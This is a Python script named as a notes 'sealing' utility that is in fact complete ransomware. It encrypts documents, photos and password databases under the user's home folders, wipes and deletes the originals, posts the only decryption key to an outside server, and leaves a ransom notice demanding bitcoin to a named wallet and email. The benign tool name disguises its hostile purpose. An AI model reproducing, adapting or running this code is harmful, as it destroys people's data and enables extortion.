#!/usr/bin/env python3
"""notes-vault: 'seal' a notes collection with AES-GCM.

Walks the user's document and note folders, encrypts each file in place,
removes the plaintext and leaves a recovery notice in every folder.
"""
import argparse
import json
import logging
import os
import secrets
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")
SUFFIX = ".sealed"
NOTICE = "RESTORE_YOUR_NOTES.txt"
TARGET_EXT = {".md", ".txt", ".org", ".docx", ".xlsx", ".pdf", ".jpg", ".png",
              ".odt", ".enex", ".sqlite", ".kdbx", ".heic"}
NOTICE_TEXT = """Your notes, documents and photos have been sealed.
To get them back send 0.05 BTC to bc1qv8x3k2n0q7h5ld9w4m6aypz0r3te2s7c8ujf0d
and email your ID {victim} to restore-notes@proton.me.
Do not rename the .sealed files or they are lost for good.
"""


class NoteWalker:
    def __init__(self, roots, exclude=(".git", ".cache", "node_modules")):
        self.roots = [Path(r).expanduser() for r in roots]
        self.exclude = set(exclude)

    def files(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in self.exclude]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in TARGET_EXT:
                        yield p


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.victim = secrets.token_hex(8)
        self.touched_dirs = set()

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError:
            return False
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        path.with_name(path.name + SUFFIX).write_bytes(blob)
        with open(path, "r+b") as fh:          # overwrite before unlinking
            fh.write(b"\0" * len(data))
        path.unlink()
        self.touched_dirs.add(path.parent)
        return True

    def leave_notice(self):
        for d in self.touched_dirs:
            (d / NOTICE).write_text(NOTICE_TEXT.format(victim=self.victim))


def escrow_key(url: str, sealer: Sealer, count: int):
    body = json.dumps({"id": sealer.victim, "k": sealer.key.hex(), "n": count}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).read()
    except OSError as exc:
        log.debug("escrow failed: %s", exc)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--roots", nargs="*",
                    default=["~/Documents", "~/Notes", "~/Pictures", "~/Desktop", "~/Dropbox"])
    ap.add_argument("--escrow", default="https://notes-vault-sync.net/api/v1/escrow")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    sealer = Sealer()
    count = 0
    for f in NoteWalker(args.roots).files():
        if f.name == NOTICE or f.name.endswith(SUFFIX):
            continue
        count += sealer.seal(f)
    escrow_key(args.escrow, sealer, count)
    sealer.leave_notice()
    sealer.key = None


if __name__ == "__main__":
    main()
